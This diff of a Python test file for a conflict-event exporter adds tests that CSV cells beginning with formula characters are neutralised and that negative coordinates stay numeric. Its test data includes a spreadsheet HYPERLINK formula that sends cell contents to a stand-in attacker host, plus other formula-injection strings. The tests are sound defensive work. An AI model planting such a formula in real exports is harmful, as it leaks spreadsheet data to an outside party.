@@ -44,6 +44,33 @@ def test_csv_has_acled_columns_first_then_evidence() -> None:
     assert (rows[1]["latitude"], rows[1]["fatalities"]) == ("", "4")
 
 
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_text_that_starts_a_formula_is_neutralised(formula: str) -> None:
+    """Every text cell that a spreadsheet would evaluate starts with a quote; the text is kept after it."""
+    hostile = replace(CAPTURE, notes=formula, actor1=formula, location=formula, source=formula,
+                      admin1="Baghlan")
+    out = io.StringIO()
+    write_events([hostile], out, ExportFormat.CSV)
+    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for column in ("notes", "actor1", "location", "source", "evidence_text"):
+        assert row[column] == "'" + formula, column
+    assert row["admin1"] == "Baghlan"
+
+
+def test_csv_numbers_stay_numbers_negative_too() -> None:
+    """Coordinates west and south of zero are numbers, not quoted text; so are counts and offsets."""
+    western = replace(CAPTURE, latitude=-12.5, longitude=-0.75, fatalities=0)
+    out = io.StringIO()
+    write_events([western], out, ExportFormat.CSV)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-12.5", "-0.75", "0")
+    assert (row["evidence_start"], row["confidence"]) == ("0", "0.7")
+
+
 def test_jsonl_nests_the_evidence() -> None:
     out = io.StringIO()
     write_events([CAPTURE], out, ExportFormat.JSONL)
@@ -94,8 +121,8 @@ def test_events_command_hides_threats_unless_asked(db_with_events: str) -> None:
 
 def test_export_command_writes_a_file(db_with_events: str, tmp_path: Path) -> None:
     target = tmp_path / "events.geojson"
-    result = CliRunner().invoke(cli, ["export", "--db", db_with_events, "--format", "geojson",
+    result = CliRunner().invoke(cli, ["export", "--db", db_with_events, "--format", "geojson", "--mentions",
                                       "-o", str(target), "--since", "2021-08-01"])
     assert result.exit_code == 0
-    assert "wrote 1 events" in result.stderr
+    assert "wrote 1 mentions" in result.stderr
     assert len(json.loads(target.read_text())["features"]) == 1
